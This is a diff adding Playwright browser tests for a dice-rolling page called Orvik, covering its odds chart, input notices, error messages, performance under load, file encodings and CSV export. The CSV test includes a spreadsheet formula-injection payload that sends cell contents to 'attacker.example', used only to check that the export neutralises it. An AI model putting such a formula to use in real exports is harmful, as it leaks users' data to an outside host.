@@ -73,7 +73,7 @@ after(async () => {
 // A page of its own context, with every request outside the page's folder blocked, and a record
 // of what must never happen: a dialog, a console error (a Content-Security-Policy refusal is
 // one), an uncaught error, a request blocked.
-async function open(url, { width = 1280, height = 800, colorScheme = 'light' } = {}) {
+async function open(url, { width = 1280, height = 800, colorScheme = 'light', init = null } = {}) {
   const context = await browser.newContext({ viewport: { width, height }, colorScheme, acceptDownloads: true });
   const folder = url.startsWith('file:') ? pathToFileURL(webDir + path.sep).href : new URL('./', url).href;
   const trouble = [];
@@ -95,8 +95,9 @@ async function open(url, { width = 1280, height = 800, colorScheme = 'light' } =
   page.on('worker', (worker) => worker.on('console', heard('worker console')));
   page.on('pageerror', (error) => trouble.push(`page error: ${error.message}`));
   page.on('requestfailed', (request) => trouble.push(`request failed: ${request.url()}`));
-  await page.goto(url);
-  await page.waitForFunction(() => /^\d+$/.test(document.getElementById('seed-in-use').textContent));
+  if (init) await page.addInitScript(init);
+  await page.goto(url, { waitUntil: init ? 'commit' : 'load' });
+  if (!init) await page.waitForFunction(() => /^\d+$/.test(document.getElementById('seed-in-use').textContent));
   page.trouble = trouble;
   page.done = async () => {
     await context.close();
@@ -258,6 +259,7 @@ describe('the page', { concurrency: false }, () => {
       assert.equal(cards.length, texts.length);
       for (const [i, want] of wanted.entries()) {
         const name = JSON.stringify(texts[i]).slice(0, 40);
+        await reveal(cards[i]);
         assert.equal(await cards[i].$eval('h3', (e) => e.textContent), texts[i]);
         if (want.error) {
           assert.equal(await cards[i].$eval('.error', (e) => e.textContent), want.error, name);
@@ -309,6 +311,7 @@ describe('the page', { concurrency: false }, () => {
       const cards = await page.$$('#odds-answers section.card');
       assert.equal(cards.length, wanted.length);
       for (const [i, want] of wanted.entries()) {
+        await reveal(cards[i]);
         if (want.error) {
           assert.match(await cards[i].$eval('.error', (e) => e.textContent), new RegExp(`^${want.error}`));
           continue;
@@ -585,6 +588,327 @@ describe('the page', { concurrency: false }, () => {
     assert.equal(await page.evaluate(() => document.activeElement.id), 'audit-button');
     await audit(page, () => page.keyboard.press('Enter'));
     assert.equal(await page.locator('#audit-results section.card').count(), 5);
+    await page.done();
+  });
+
+  // A chance as the page shows it, rounded.
+  const percent = (p) => (p === 0 ? '0%' : p * 100 >= 0.0001
+    ? `${(p * 100).toLocaleString('en-US', { minimumFractionDigits: 4, maximumFractionDigits: 4 })}%` : `${(p * 100).toExponential(2)}%`);
+
+  test('after Show odds the chart is in view, the keyboard at its heading, and each total told on hover and on focus', async () => {
+    const wanted = nativeJson(['--odds', '--json', '3d6', '4d6-2']);
+    const told = (total) => `total ${total}: ${wanted.map((w) => {
+      const row = w.totals[total - w.min];
+      return row ? `${w.text} ${percent(row.p)}` : null;
+    }).filter(Boolean).join('; ')}`;
+    for (const [width, height] of [[1280, 800], [360, 740]]) {
+      const page = await open(fileUrl, { width, height });
+      await page.click('#tab-odds');
+      await page.fill('#odds-texts', '3d6\n4d6-2');
+      await page.click('#odds-button');
+      await page.waitForFunction(() => /^Odds of/.test(document.getElementById('odds-status').textContent));
+      await page.waitForFunction(() => document.activeElement.id === 'odds-heading');
+      const plot = page.locator('#odds-chart .plot-focus');
+      // Before anything is told, focus tells the likeliest total.
+      await plot.focus();
+      const likeliest = wanted.flatMap((w) => w.totals).reduce((a, b) => (b.p > a.p ? b : a)).total;
+      assert.equal(await page.textContent('#odds-chart .readout'), told(likeliest));
+      await page.focus('#odds-heading');
+      const box = await plot.boundingBox();
+      assert.ok(box.y >= 0 && box.y + box.height <= height, `${width}: the chart at ${box.y}..${box.y + box.height} of ${height}`);
+      // Hover: across the plot, each place says its total and every text's chance there.
+      const seen = new Set();
+      for (let k = 0; k < 11; k++) {
+        await page.mouse.move(box.x + box.width * (0.2 + (0.75 * k) / 10), box.y + box.height / 2);
+        const said = await page.textContent('#odds-chart .readout');
+        const total = Number(said.match(/^total (-?\d+):/)[1]);
+        assert.equal(said, told(total), `${width}: hover`);
+        seen.add(total);
+      }
+      assert.ok(seen.size >= 8, `${width}: ${seen.size} totals told`);
+      // Focus: the place last told, the arrow keys, Home and End; a mark on each text's point.
+      await page.mouse.move(0, 0);
+      assert.equal(await page.textContent('#odds-chart .readout'), '', 'nothing told once the pointer leaves');
+      await plot.focus();
+      assert.match(await page.textContent('#odds-chart .readout'), /^total \d+: /);
+      await page.keyboard.press('Home');
+      assert.equal(await page.textContent('#odds-chart .readout'), told(2));
+      await page.keyboard.press('ArrowRight');
+      assert.equal(await page.textContent('#odds-chart .readout'), told(3));
+      assert.equal(await page.locator('#odds-chart circle.mark[visibility="visible"]').count(), 2, 'a mark on each point told');
+      await page.keyboard.press('End');
+      assert.equal(await page.textContent('#odds-chart .readout'), told(22));
+      assert.equal(await page.locator('#odds-chart circle.mark[visibility="visible"]').count(), 1);
+      await page.done();
+    }
+  });
+
+  test('what was read as free text is said under the answer and the odds\' heading; hints say what Orvik takes', async () => {
+    const page = await open(fileUrl);
+    const notes = () => page.$$eval('#roll-notes p', (items) => items.map((p) => [p.className, p.textContent]));
+    const cases = [
+      ['2d6 + 3', [['notice', '+ 3 was read as free text: write 2d6+3']]],
+      ['d20 +5 to hit', [['notice', '+5 was read as free text: write d20+5 to hit']]],
+      ['3d6 d8+2', [['notice', "d8+2 was read as free text: a text rolls one roll, and a second only as a sneak attack's dice"]]],
+      ['D20', [['hint', "Orvik's d is lower-case: write d20"]]],
+      ['d%', [['hint', 'Orvik has no d%, but d100: write d100']]],
+      ['4d6kh3', [['hint', 'Orvik neither keeps nor drops dice, but sums every die it rolls: write 4d6']]],
+      ['2d6+ 3', [['hint', 'A roll has no space inside it: write 2d6+3']]],
+      ['d20 to hit', []],
+      ['d501', []],
+    ];
+    for (const [text, said] of cases) {
+      await roll(page, text);
+      assert.deepEqual(await notes(), said, text);
+    }
+    // The pieces of a text in a notice are code, as typed.
+    await roll(page, '2d6 + 3');
+    assert.deepEqual(await page.$$eval('#roll-notes code', (items) => items.map((c) => c.textContent)), ['+ 3', '2d6+3']);
+    // The same under the odds' heading, and a refused text's card gives its hint.
+    await showOdds(page, ['2d6 + 3', 'D20', '3d6']);
+    assert.deepEqual(await page.$$eval('#odds-notices li', (items) => items.map((li) => li.textContent)),
+      ['2d6 + 3: + 3 was read as free text: write 2d6+3']);
+    assert.equal(await page.textContent('#odds-tables section.card:nth-child(2) .hint'), "Orvik's d is lower-case: write d20");
+    await page.done();
+  });
+
+  test('an error in a player\'s words beside its field, the stale answer cleared', async () => {
+    const page = await open(fileUrl);
+    const error = (id) => page.evaluate((field) => {
+      const said = document.getElementById(`${field}-error`);
+      return said.hidden ? null : [said.textContent, document.getElementById(field).getAttribute('aria-invalid')];
+    }, id);
+    await roll(page, 'd20');
+    // An empty roll: said beside the field, the last answer gone, no history entry.
+    await page.fill('#roll-text', '  ');
+    await page.press('#roll-text', 'Enter');
+    await page.waitForFunction(() => !document.getElementById('roll-text-error').hidden);
+    assert.deepEqual(await error('roll-text'), ['Write a roll text first, such as d20+5.', 'true']);
+    assert.equal(await page.textContent('#roll-latest'), '');
+    assert.equal(await historyCount(page), 1);
+    await roll(page, 'd6');
+    assert.equal(await error('roll-text'), null);
+    // A seed the library refuses: beside the seed, the roll's answer left alone.
+    const answer = await page.textContent('#roll-latest');
+    for (const [typed, said] of [['abc', 'A seed is a number, not the string "abc".'], ['1.5', 'A seed is a whole number from 0 to 4294967295, not 1.5.'],
+      ['4294967296', 'A seed is a whole number from 0 to 4294967295, not 4294967296.']]) {
+      await page.fill('#seed', typed);
+      await page.press('#seed', 'Enter');
+      await page.waitForFunction(() => !document.getElementById('seed-error').hidden);
+      assert.deepEqual(await error('seed'), [said, 'true']);
+      assert.equal(await page.textContent('#roll-latest'), answer);
+    }
+    await setSeed(page, 3);
+    assert.equal(await error('seed'), null);
+    // The questions' fields: what the page takes, and what the library refuses, in a player's words.
+    await showOdds(page, ['3d6']);
+    const refused = async (setUp, field, said) => {
+      await page.click('#tab-odds');
+      await setUp();
+      await page.click('#odds-button');
+      await page.waitForFunction((f) => !document.getElementById(`${f}-error`).hidden, field);
+      assert.deepEqual(await error(field), [said, 'true']);
+      assert.equal(await page.isHidden('#odds-results'), true, 'the stale odds cleared');
+    };
+    await refused(async () => {
+      await page.check('input[name="question"][value="atleast"]');
+      await page.fill('#odds-target', 'abc');
+    }, 'odds-target', 'Write the total to reach as a whole number, such as 12.');
+    await refused(() => page.fill('#odds-target', '99999999999999999999'), 'odds-target', 'That total is beyond what Orvik counts: write a smaller one.');
+    await refused(async () => {
+      await page.check('input[name="question"][value="vs"]');
+      await page.fill('#odds-vs', ' ');
+    }, 'odds-vs', 'Write the roll text to roll against, such as d20.');
+    await refused(() => page.fill('#odds-texts', '\n'), 'odds-texts', 'Write a roll text first, one a line, such as 3d6.');
+    await page.click('#tab-audit');
+    await page.check('input[name="audit-source"][value="rolls"]');
+    await page.fill('#audit-rolls', '0');
+    await page.click('#audit-button');
+    await page.waitForFunction(() => !document.getElementById('audit-rolls-error').hidden);
+    assert.deepEqual(await error('audit-rolls'), ['Write how many rolls as a whole number from 1 to 1,000,000,000,000.', 'true']);
+    assert.equal(await page.inputValue('#audit-rolls'), '0');
+    await page.done();
+  });
+
+  test('at 360 px the roll\'s answer is above the fold', async () => {
+    const page = await open(fileUrl, { width: 360, height: 740 });
+    await roll(page, '3#d20+5 to hit the goblins');
+    const box = await page.locator('#roll-latest .answer').boundingBox();
+    assert.ok(box.y + box.height <= 740, `the answer ends at ${box.y + box.height} px`);
+    await page.done();
+  });
+
+  test('the CSV writes a text a spreadsheet would run as a formula with a leading \', and numbers as numbers', async () => {
+    const page = await open(fileUrl);
+    const texts = ['+1+HYPERLINK("https://attacker.example/?leak="&A1,"click")#d6', '+2#d4 =1+1', 'd2 @x'];
+    const wanted = nativeJson(['--odds', '--json', '--', ...texts]);
+    await showOdds(page, texts);
+    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#odds-csv')]);
+    const csv = fs.readFileSync(await download.path(), 'utf8').trimEnd().split('\r\n');
+    const rows = wanted.flatMap((w) => w.totals.map((t) => [w.text, t]));
+    assert.equal(csv.length - 1, rows.length);
+    rows.forEach(([text, t], k) => {
+      const cells = csv[k + 1].match(/^"((?:[^"]|"")*)",(.*)$/);
+      const cell = cells[1].replace(/""/g, '"');
+      assert.equal(cell, /^[=+\-@\t\r]/.test(text) ? `'${text}` : text, `row ${k + 1}`);
+      assert.deepEqual(cells[2].split(',').map(Number), [t.total, t.p, t.at_least, t.at_most]);
+      assert.match(cells[2], /^-?\d/, 'numbers unquoted');
+    });
+    await page.done();
+  });
+
+  // What the browser holds, as a person's machine would count it: the resident memory of every
+  // process this test's Chromium started (the descendants of this process), in MB.
+  function chromiumMegabytes() {
+    const parent = new Map();
+    for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
+      try {
+        parent.set(Number(pid), Number(fs.readFileSync(`/proc/${pid}/stat`, 'utf8').replace(/^.*\) /, '').split(' ')[1]));
+      } catch {
+        // gone meanwhile
+      }
+    }
+    const ours = (pid) => {
+      for (let at = parent.get(pid); at !== undefined && at > 1; at = parent.get(at)) if (at === process.pid) return true;
+      return false;
+    };
+    let kb = 0;
+    for (const pid of parent.keys()) {
+      if (!ours(pid)) continue;
+      try {
+        kb += Number(fs.readFileSync(`/proc/${pid}/status`, 'utf8').match(/^VmRSS:\s+(\d+)/m)[1]);
+      } catch {
+        // gone meanwhile
+      }
+    }
+    return kb / 1024;
+  }
+
+  test('links of thousands of texts: the page answers a click while they load, works out at most 100, and Cancel is heard', async () => {
+    const links = [
+      ['5,000 texts of d20', Array.from({ length: 5000 }, (_, i) => `d20-${i + 1}`), {}],
+      ['400 texts of 30#100d500', Array.from({ length: 400 }, (_, i) => `30#100d500-${i + 1}`), {}],
+      ['300 texts against 100d500', Array.from({ length: 300 }, (_, i) => `30#100d500-${i + 1}`), { q: 'vs', vs: '100d500' }],
+    ];
+    for (const [name, texts, question] of links) {
+      const q = new URLSearchParams({ view: 'odds', odds: texts.join('\n'), ...question });
+      // Clicks from the moment the page is there until the odds are shown, each timed from its
+      // event to its handler.
+      const page = await open(`${fileUrl}#${q}`, {
+        init: () => {
+          window.clickLags = [];
+          document.addEventListener('click', (event) => window.clickLags.push(performance.now() - event.timeStamp), true);
+        },
+      });
+      await page.waitForSelector('#exact');
+      const box = await page.locator('#exact').boundingBox();
+      do {
+        await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
+        await page.waitForTimeout(30);
+      } while (await page.evaluate(() => !/Odds of|^Stopped/.test(document.getElementById('odds-status').textContent)));
+      const lags = await page.evaluate(() => window.clickLags);
+      // A frozen page holds a click for seconds; how soon it answers is measured (measure.mjs).
+      assert.ok(lags.length > 0 && lags.every((lag) => lag < 1000), `${name}: clicks answered after ${lags.map((l) => l.toFixed(0))} ms`);
+      assert.match(await page.textContent('#odds-status'), new RegExp(`^The first 100 of ${texts.length.toLocaleString('en-US')} texts: the page works out at most 100 at once\\. Odds of 100 texts`));
+      assert.equal(await page.locator('#odds-tables section.card').count(), 100);
+      assert.ok(await page.locator('#odds-tables section.card.waiting').count() >= 80, 'cards drawn as they come into view');
+      const megabytes = chromiumMegabytes();
+      console.log(`# ${name}: clicks answered ${Math.max(...lags).toFixed(0)} ms at most after they came; Chromium holds ${megabytes.toFixed(0)} MB`);
+      assert.ok(megabytes < 1500, `${name}: ${megabytes.toFixed(0)} MB`);
+      await page.done();
+    }
+    // Cancel, while a hundred of the largest are worked out, stops between texts.
+    const page = await open(fileUrl);
+    await page.click('#tab-odds');
+    await page.fill('#odds-texts', Array.from({ length: 100 }, (_, i) => `30#100d500-${i + 1}`).join('\n'));
+    await page.click('#odds-button');
+    await page.waitForFunction(() => document.getElementById('odds-progress').value > 0);
+    await page.click('#odds-cancel');
+    await page.waitForFunction(() => /^Stopped after/.test(document.getElementById('odds-status').textContent));
+    assert.match(await page.textContent('#odds-status'), /^Stopped after [\d,]+ of 100 texts\./);
+    await page.done();
+  });
+
+  // The page's audit of a file against the command's: the summary line (the command names the
+  // file by its path, the page by its name) and every text's JSON.
+  async function sameAudit(page, file) {
+    const command = native(['--audit', '--answers', '--json', file]);
+    await audit(page, () => page.setInputFiles('#audit-file', file));
+    const summary = command.stderr.trim().replace(/^orvik: /, '').split('\n')[0].replace(file, path.basename(file));
+    assert.equal(await page.textContent('#audit-results .summary'), summary, path.basename(file));
+    const shown = await page.locator('#audit-results section.card').count();
+    assert.equal(shown, command.lines.length, path.basename(file));
+  }
+
+  test('the page and the command read every file alike: byte-order marks, UTF-16 and its odd ends, bytes that are no UTF-8', async () => {
+    const page = await open(fileUrl);
+    await page.click('#tab-audit');
+    const line = '<O> Al rolls a d20 and gets 9.';
+    const utf16le = (text) => Buffer.from(text, 'utf16le');
+    const utf16be = (text) => Buffer.from(text, 'utf16le').swap16();
+    const files = [
+      ['odd-byte', Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le(line), Buffer.from([0x41])])],
+      ['lone-first-unit', Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le(line), Buffer.from([0x3c, 0xd8])])],
+      ['first-unit-and-byte', Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le(line), Buffer.from([0x3c, 0xd8, 0x41])])],
+      ['big-endian', Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(`${line}\n${line} \ud83c\udfb2\n${line}`)])],
+      ['utf8-mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`${line}\r\n${line}`)])],
+      ['no-utf8', Buffer.concat([Buffer.from(`${line}\nBo rolls d20 \xff\xfe and gets 4.\nBo rolls d20 \xff\xfe and gets 5.\n`, 'latin1')])],
+      ['utf16-no-mark', utf16le(`${line}\n`)],
+      ['game-utf16', Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le(gameLog)])],
+    ];
+    for (const [name, bytes] of files) {
+      const file = path.join(os.tmpdir(), `orvik-ends-${process.pid}-${name}.log`);
+      fs.writeFileSync(file, bytes);
+      try {
+        await sameAudit(page, file);
+      } finally {
+        fs.rmSync(file, { force: true });
+      }
+    }
+    await page.done();
+  });
+
+  test('a file over 512 MiB is read in slices, not as empty', async () => {
+    // Sparse: the game's log, then holes with a line end each MiB, then the log again; 600 MiB
+    // that take a few MB of disk.
+    const file = path.join(os.tmpdir(), `orvik-sparse-${process.pid}.log`);
+    const fd = fs.openSync(file, 'w');
+    try {
+      fs.writeSync(fd, gameLog);
+      for (let mib = 1; mib < 600; mib++) fs.writeSync(fd, '\n', mib * 1024 * 1024);
+      fs.writeSync(fd, `\n${gameLog}`, 600 * 1024 * 1024);
+      fs.closeSync(fd);
+      const page = await open(fileUrl);
+      await page.click('#tab-audit');
+      await sameAudit(page, file);
+      assert.match(await page.textContent('#audit-results .summary'), /: [\d,]+ lines, 292 answers of 5 roll texts/);
+      await page.done();
+    } finally {
+      fs.rmSync(file, { force: true });
+    }
+  });
+
+  test('a pasted log over 1 MiB is held as a file, by its name and size, not in the text box', async () => {
+    const page = await open(fileUrl);
+    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']).catch(() => {});
+    await page.click('#tab-audit');
+    const log = gameLog.repeat(Math.ceil((1.5 * 1024 * 1024) / gameLog.length));
+    await page.focus('#audit-log');
+    await page.evaluate((text) => navigator.clipboard.writeText(text), log);
+    await page.keyboard.press('Control+V');
+    await page.waitForFunction(() => !document.getElementById('audit-held').hidden);
+    assert.equal(await page.textContent('#audit-held-name'), `the pasted log, ${(Buffer.byteLength(log) / 1024 / 1024).toFixed(1)} MB`);
+    assert.equal(await page.inputValue('#audit-log'), '');
+    assert.equal(await page.isHidden('#audit-log'), true);
+    // Switching views costs nothing for it, and the audit is the command's of the same text.
+    for (const view of ['roll', 'odds', 'audit']) await page.click(`#tab-${view}`);
+    await page.fill('#audit-from', '<Orvik>');
+    await audit(page, () => page.click('#audit-button'));
+    const { lines, stderr } = native(['--audit', '--answers', '--json', '--from', '<Orvik>'], log);
+    assert.equal(await page.textContent('#audit-results .summary'), stderr.trim().replace(/^orvik: standard input/, 'the pasted log'));
+    assert.equal(await page.locator('#audit-results section.card').count(), lines.length);
+    await page.click('#audit-held-remove');
+    assert.equal(await page.isVisible('#audit-log'), true);
     await page.done();
   });
 
